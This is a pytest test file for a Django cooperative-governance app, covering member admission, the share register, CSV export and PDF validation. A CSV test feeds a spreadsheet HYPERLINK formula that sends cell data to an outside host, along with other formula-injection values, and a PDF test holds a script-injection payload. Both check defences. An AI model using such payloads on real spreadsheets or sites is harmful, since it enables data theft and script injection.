import csv
import datetime
import io

import pytest
from django.core import mail
from django.core.exceptions import ValidationError
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import DatabaseError, transaction
from django.urls import reverse
from django.utils import timezone

from terreau.demo.pdf import one_page_pdf
from terreau.governance import services
from terreau.governance.figures import campaign_figures
from terreau.governance.models import (
    AuditEntry,
    College,
    Cooperative,
    Member,
    MembershipApplication,
    ShareMovement,
    Statutes,
    validate_pdf,
)
from tests.accounts.factories import UserFactory, sign_in_with_second_factor
from tests.governance.factories import cooperative, member
from tests.territories.factories import commune
from tests.worker import run_worker

pytestmark = pytest.mark.django_db


def settings_post(colleges, **overrides):
    data = {
        "name": "SCIC Terreau",
        "share_price": "20",
        "minimum_shares": "1",
        "member_goal": "2000",
        "proxy_cap": "2",
        "ordinary_majority": "1/2",
        "extraordinary_majority": "2/3",
        "extraordinary_inclusive": "on",
        "ordinary_quorum_first": "1/5",
        "ordinary_quorum_second": "0",
        "extraordinary_quorum_first": "1/4",
        "extraordinary_quorum_second": "1/5",
        "notice_days_first": "15",
        "notice_days_second": "10",
        "secrecy_minimum": "3",
        "c-TOTAL_FORMS": str(len(colleges)),
        "c-INITIAL_FORMS": "0",
    }
    for i, (name, weight) in enumerate(colleges):
        data.update({f"c-{i}-name": name, f"c-{i}-weight": str(weight), f"c-{i}-position": str(i)})
    data.update(overrides)
    return data


@pytest.mark.parametrize(
    ("colleges", "message"),
    [
        ([("A", 50), ("B", 50)], "au moins trois collèges"),
        ([("A", 60), ("B", 20), ("C", 20)], "entre 10"),
        ([("A", 30), ("B", 30), ("C", 30)], "totaliser 100 %"),
    ],
)
def test_staff_cannot_save_colleges_unfit_for_a_scic(client, staff, colleges, message):
    sign_in_with_second_factor(client, staff)
    response = client.post(reverse("governance:settings"), settings_post(colleges))
    assert response.status_code == 200
    assert message in response.content.decode()
    assert not College.objects.exists()


def test_staff_save_settings_and_colleges(client, staff):
    sign_in_with_second_factor(client, staff)
    response = client.post(
        reverse("governance:settings"),
        settings_post([("Fondateurs", 40), ("Citoyens", 40), ("Lieux", 20)], share_price="25"),
    )
    assert response.status_code == 302
    assert list(College.objects.values_list("name", "weight")) == [
        ("Fondateurs", 40),
        ("Citoyens", 40),
        ("Lieux", 20),
    ]
    assert Cooperative.load().share_price == 25


def test_a_college_with_members_cannot_be_deleted(client, staff, territories):
    colleges = cooperative([("A", 40), ("B", 30), ("C", 30)])
    member(colleges[2])
    sign_in_with_second_factor(client, staff)
    data = settings_post([])
    data.update({"c-TOTAL_FORMS": "3", "c-INITIAL_FORMS": "3"})
    for i, college in enumerate(colleges):
        data.update(
            {
                f"c-{i}-id": str(college.pk),
                f"c-{i}-name": college.name,
                f"c-{i}-weight": "50",
                f"c-{i}-position": str(i),
            }
        )
    data["c-2-DELETE"] = "on"
    response = client.post(reverse("governance:settings"), data)
    assert "compte des sociétaires" in response.content.decode()
    assert College.objects.count() == 3


def test_non_staff_never_reach_settings_nor_register(client, person):
    client.force_login(person)
    for name in ("settings", "register", "register_csv"):
        assert client.get(reverse("governance:" + name)).status_code == 403
    assert client.get(reverse("governance:record_movement")).status_code == 405  # POST only
    assert client.post(reverse("governance:record_movement"), {}).status_code == 403


def test_applying_then_being_admitted_on_payment(
    client, territories, staff, django_capture_on_commit_callbacks
):
    colleges = cooperative()
    person = UserFactory()
    client.force_login(person)
    response = client.post(
        reverse("governance:apply"),
        {
            "college": colleges[2].pk,
            "shares": "3",
            "legal_name": "Camille Durand",
            "postal_address": "2 rue du Château, 34120 Pézenas",
            "accepts_statutes": "on",
        },
    )
    assert response.status_code == 302
    application = MembershipApplication.objects.get(person=person)
    assert application.status == "pending"
    assert "attend votre paiement" in client.get(reverse("governance:apply")).content.decode()
    assert not Member.objects.exists()

    sign_in_with_second_factor(client, staff)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            reverse("governance:record_payment", args=[application.pk]),
            {"paid_on": "2026-11-20", "reference": "VIR 2026-11-20 DURAND"},
        )
    run_worker()
    assert response.status_code == 302
    admitted = Member.objects.get(person=person)
    assert (admitted.number, admitted.shares, admitted.college) == (1, 3, colleges[2])
    assert admitted.admitted_on == datetime.date(2026, 11, 20)
    assert "sociétaire n° 1" in mail.outbox[-1].subject
    assert AuditEntry.objects.get().action == "member_admitted"
    # A second payment for the same application changes nothing.
    client.post(
        reverse("governance:record_payment", args=[application.pk]),
        {"paid_on": "2026-11-21", "reference": "doublon"},
    )
    assert ShareMovement.objects.count() == 1

    client.force_login(person)
    certificate = client.get(reverse("governance:certificate", args=[1]))
    assert "Camille Durand" in certificate.content.decode()
    assert "3 parts détenues" in certificate.content.decode()


@pytest.mark.parametrize(
    ("post", "message"),
    [
        ({"shares": "1"}, "accepte"),  # statutes not accepted
        ({"shares": "0", "accepts_statutes": "on"}, "supérieure ou égale à 1"),
        ({"shares": "beaucoup", "accepts_statutes": "on"}, "nombre entier"),
        (
            {"shares": "1", "accepts_statutes": "on", "college": "999"},
            "Sélectionnez un choix valide",
        ),
        ({"shares": "1", "accepts_statutes": "on", "legal_name": ""}, "obligatoire"),
    ],
)
def test_a_bad_application_is_explained_and_records_nothing(client, territories, post, message):
    colleges = cooperative()
    client.force_login(UserFactory())
    data = {
        "college": colleges[0].pk,
        "legal_name": "Camille Durand",
        "postal_address": "Pézenas",
        **post,
    }
    response = client.post(reverse("governance:apply"), data)
    assert response.status_code == 200
    assert message in response.content.decode()
    assert not MembershipApplication.objects.exists()


def test_no_application_before_statutes_and_colleges(client, person):
    client.force_login(person)
    response = client.get(reverse("governance:apply"))
    assert "dès que la coopérative aura publié ses statuts" in response.content.decode()


def test_member_numbers_follow_each_other(territories):
    colleges = cooperative()
    numbers = [member(colleges[i % 5]).number for i in range(4)]
    assert numbers == [1, 2, 3, 4]


def test_a_certificate_is_seen_by_its_member_and_staff_only(client, territories, staff):
    colleges = cooperative()
    alice = member(colleges[0])
    url = reverse("governance:certificate", args=[alice.number])
    assert client.get(url).status_code == 404
    client.force_login(UserFactory())
    assert client.get(url).status_code == 404
    client.force_login(member(colleges[0]).person)  # another member
    assert client.get(url).status_code == 404
    sign_in_with_second_factor(client, staff)
    assert client.get(url).status_code == 200
    client.force_login(alice.person)
    assert client.get(url).status_code == 200


def test_transfers_and_withdrawals_keep_the_register_consistent(territories, staff):
    colleges = cooperative()
    alice = member(colleges[0], shares=5)
    bob = member(colleges[1], shares=1)
    today = timezone.localdate()
    services.record_movement(
        member=alice,
        kind="transfer_out",
        shares=2,
        counterpart=bob,
        occurred_on=today,
        reference="acte de cession",
        recorded_by=staff,
    )
    assert (alice.shares, bob.shares) == (3, 3)
    with pytest.raises(services.GovernanceRefused, match="ne détient que 3"):
        services.record_movement(
            member=alice,
            kind="withdrawal",
            shares=4,
            occurred_on=today,
            reference="",
            recorded_by=staff,
        )
    services.record_movement(
        member=alice,
        kind="withdrawal",
        shares=3,
        occurred_on=today,
        reference="remboursement",
        recorded_by=staff,
    )
    alice.refresh_from_db()
    assert alice.shares == 0
    assert alice.left_on == today
    assert Member.objects.active_of(alice.person) is None
    assert ShareMovement.objects.count() == 5  # 2 subscriptions, 2 transfer lines, 1 withdrawal
    actions = list(AuditEntry.objects.values_list("action", flat=True))
    assert actions == ["member_admitted", "member_admitted", "shares_moved", "shares_moved"]


def test_a_movement_cannot_leave_fewer_shares_than_the_minimum(territories, staff):
    Cooperative.objects.update_or_create(pk=1, defaults={"minimum_shares": 2})
    colleges = cooperative()
    alice = member(colleges[0], shares=3)
    with pytest.raises(services.GovernanceRefused, match="minimum statutaire de 2"):
        services.record_movement(
            member=alice,
            kind="withdrawal",
            shares=2,
            occurred_on=timezone.localdate(),
            reference="",
            recorded_by=staff,
        )
    assert alice.shares == 3


def test_the_movement_form_names_unknown_members_and_records_nothing(client, territories, staff):
    colleges = cooperative()
    alice = member(colleges[0], shares=2)
    sign_in_with_second_factor(client, staff)
    response = client.post(
        reverse("governance:record_movement"),
        {
            "member": alice.number,
            "kind": "transfer_out",
            "shares": "1",
            "counterpart": "999",
            "occurred_on": "2026-11-20",
        },
    )
    assert "Aucun sociétaire ne porte ce numéro" in response.content.decode()
    response = client.post(
        reverse("governance:record_movement"),
        {
            "member": alice.number,
            "kind": "transfer_out",
            "shares": "1",
            "occurred_on": "2026-11-20",
        },
    )
    assert "nomme le sociétaire" in response.content.decode()
    assert ShareMovement.objects.count() == 1


def test_the_register_is_append_only_in_the_database(territories):
    """The triggers checked are those the migrations installed: no test
    installs them (the browser tests' teardown puts back what it lifts)."""
    colleges = cooperative()
    alice = member(colleges[0], shares=2)
    movement = ShareMovement.objects.get(member=alice)
    refused = "append-only table governance_sharemovement"
    with pytest.raises(DatabaseError, match=refused), transaction.atomic():
        ShareMovement.objects.filter(pk=movement.pk).update(shares=200)
    with pytest.raises(DatabaseError, match=refused), transaction.atomic():
        ShareMovement.objects.filter(pk=movement.pk).delete()
    assert ShareMovement.objects.get(pk=movement.pk).shares == 2


def test_the_register_exports_every_movement_as_csv(client, territories, staff):
    colleges = cooperative()
    alice = member(colleges[0], shares=4)
    bob = member(colleges[1])
    services.record_movement(
        member=alice,
        kind="transfer_out",
        shares=1,
        counterpart=bob,
        occurred_on=datetime.date(2026, 11, 21),
        reference="acte",
        recorded_by=staff,
    )
    sign_in_with_second_factor(client, staff)
    response = client.get(reverse("governance:register_csv"))
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][:3] == ["date du mouvement", "n° sociétaire", "nom à l'état civil"]
    assert len(rows) == 5
    assert rows[3][1] == str(alice.number)
    assert rows[3][5:7] == ["cession consentie", "-1"]
    assert rows[4][1] == str(bob.number)
    assert rows[4][9] == str(alice.number)


def test_the_register_csv_never_carries_a_formula(client, territories, staff):
    """A legal name or an address typed as a formula reaches the spreadsheet
    as text (issue 21, 11); a negative number of shares stays a number."""
    colleges = cooperative()
    person = UserFactory()
    application = services.apply_for_membership(
        person=person,
        college=colleges[0],
        shares=2,
        legal_name='=HYPERLINK("https://example.org/?"&C2;"Voir")',
        postal_address="@SUM(1+1)\n34120 Pézenas",
        show_name=False,
        accepts_statutes=True,
    )
    services.record_payment(
        application=application,
        recorded_by=staff,
        paid_on=timezone.localdate(),
        reference="+33 6 00 00 00 00",
    )
    sign_in_with_second_factor(client, staff)
    response = client.get(reverse("governance:register_csv"))
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    line = rows[-1]
    assert line[2] == '\'=HYPERLINK("https://example.org/?"&C2;"Voir")'
    assert line[3] == "'@SUM(1+1), 34120 Pézenas"
    assert line[10] == "'+33 6 00 00 00 00"
    assert line[6] == "2"
    for cell in line:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_the_campaign_counts_members_per_college_and_territory(client, territories):
    colleges = cooperative()
    member(colleges[0], person=UserFactory(home_commune=commune("34199"), display_name="Alice"))
    member(colleges[0], shares=3, person=UserFactory(home_commune=commune("81163")))
    listed = member(colleges[2], person=UserFactory(display_name="Zoé Listée"))
    Member.objects.filter(pk=listed.pk).update(show_name=True)
    figures = campaign_figures()
    assert figures["members"] == 3
    assert figures["shares"] == 5
    assert [row["members"] for row in figures["per_college"]] == [2, 0, 1, 0, 0]
    assert figures["per_territory"] == [("Hérault", 1), ("Tarn", 1)]
    assert figures["territory_unknown"] == 1
    page = client.get(reverse("governance:campaign")).content.decode()
    assert "3 sociétaires sur un objectif de 2" in page
    assert "Zoé Listée" in page
    assert "Alice" not in page  # did not choose to be listed


def test_the_statutes_are_served_and_a_lost_file_is_a_404_not_a_500(client, territories):
    cooperative()
    response = client.get(reverse("governance:statutes"))
    assert response["Content-Type"] == "application/pdf"
    assert b"".join(response.streaming_content).startswith(b"%PDF-")
    Statutes.objects.get().file.delete(save=False)
    assert client.get(reverse("governance:statutes")).status_code == 404


@pytest.mark.parametrize(
    "content",
    [
        b"%PDF-<html><script>alert(1)</script></html>",
        b"%PDF-1.4\n" + b"\x00" * 200,
        one_page_pdf(["Statuts"])[:-80],  # cut before its cross-reference table
        b"",
    ],
)
def test_a_document_that_is_not_a_readable_pdf_is_refused(content):
    """Issue 21, 19: the first five bytes were the only check."""
    upload = SimpleUploadedFile("statuts.pdf", content, content_type="application/pdf")
    with pytest.raises(ValidationError, match="PDF lisible"):
        validate_pdf(upload)


def test_a_readable_pdf_is_accepted():
    validate_pdf(SimpleUploadedFile("statuts.pdf", one_page_pdf(["Article 1"])))


def test_statutes_dated_in_the_future_apply_from_their_date(client, territories, time_machine):
    cooperative()
    current = Statutes.objects.get()
    adopted_on = timezone.localdate() + datetime.timedelta(days=10)
    future = Statutes(title="Statuts révisés", adopted_on=adopted_on)
    future.file.save("revises.pdf", ContentFile(one_page_pdf(["Version revisee"])), save=False)
    future.save()

    def served():
        return b"".join(client.get(reverse("governance:statutes")).streaming_content)

    assert Statutes.objects.in_force() == current
    assert b"Version revisee" not in served()
    time_machine.move_to(timezone.now() + datetime.timedelta(days=11))
    assert Statutes.objects.in_force() == future
    assert b"Version revisee" in served()
